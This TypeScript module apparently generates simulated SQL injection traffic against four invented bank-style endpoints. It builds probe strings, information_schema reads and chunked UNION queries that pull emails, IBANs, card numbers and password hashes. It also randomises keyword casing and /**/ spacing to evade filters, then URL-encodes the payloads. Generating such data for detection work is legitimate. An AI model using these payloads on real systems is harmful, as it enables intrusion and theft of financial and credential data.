import type { Random } from '../random.ts';

type Target = { readonly path: string; readonly parameter: string; readonly before: string; readonly after: string };

const TARGETS: readonly [Target, ...Target[]] = [
  { path: '/branches', parameter: 'city', before: "SELECT id, name, city FROM branches WHERE city = '", after: "'" },
  { path: '/search', parameter: 'q', before: "SELECT id, title, url FROM pages WHERE body LIKE '%", after: "%'" },
  { path: '/rates', parameter: 'currency', before: "SELECT day, rate, id FROM rates WHERE currency = '", after: "'" },
  { path: '/v1/branches', parameter: 'near', before: "SELECT id, name, zip FROM branches WHERE zip = '", after: "'" },
];

export const injectionTarget = (random: Random): Target => random.pick(TARGETS);

const spelled = (keyword: string, random: Random): string => {
  const style = random.integer(0, 2);
  if (style === 0) return keyword;
  if (style === 1) return keyword.toLowerCase();
  return [...keyword].map((letter) => (random.chance(0.5) ? letter.toLowerCase() : letter)).join('');
};

const phrase = (words: string, random: Random): string => {
  const gap = random.pick([' ', ' ', '/**/', '  ']);
  return words
    .split(' ')
    .map((item) => (/^[A-Z]+$/.test(item) ? spelled(item, random) : item))
    .join(gap);
};

/** Is the parameter injectable at all? */
export const probe = (random: Random): string => {
  const number = random.integer(1, 9999);
  return random.pick([
    `'`,
    phrase(`${number}' OR ${number}=${number} --`, random),
    phrase(`' AND ${number}=${number + 1} --`, random),
    phrase(`' UNION SELECT NULL,NULL,NULL --`, random),
    phrase(`' UNION ALL SELECT NULL,version(),NULL --`, random),
    phrase(`'; SELECT pg_sleep(${random.integer(3, 9)}) --`, random),
    phrase(`' AND CAST((SELECT current_user) AS int)=1 --`, random),
    phrase(`' ORDER BY ${random.integer(3, 12)} --`, random),
  ]);
};

export const catalogueRead = (random: Random): string =>
  phrase(
    `' UNION ALL SELECT NULL,${random.pick(['table_name', 'column_name'])},NULL FROM information_schema.${random.pick(['tables', 'columns'])} --`,
    random,
  );

export const tableRead = (table: string, chunk: number, size: number, random: Random): string =>
  phrase(
    `' UNION ALL SELECT id,concat(name,${random.pick(["':'", 'chr(58)'])},${random.pick(['email', 'iban', 'card_number', 'password_hash'])}),NULL FROM ${table} LIMIT ${size} OFFSET ${chunk * size} --`,
    random,
  );

/** As it stands in a request line. */
export const encoded = (text: string, random: Random): string => {
  const escaped = encodeURIComponent(text).replaceAll("'", '%27').replaceAll('(', '%28').replaceAll(')', '%29');
  return random.chance(0.3) ? escaped.replaceAll('%20', '+') : escaped;
};
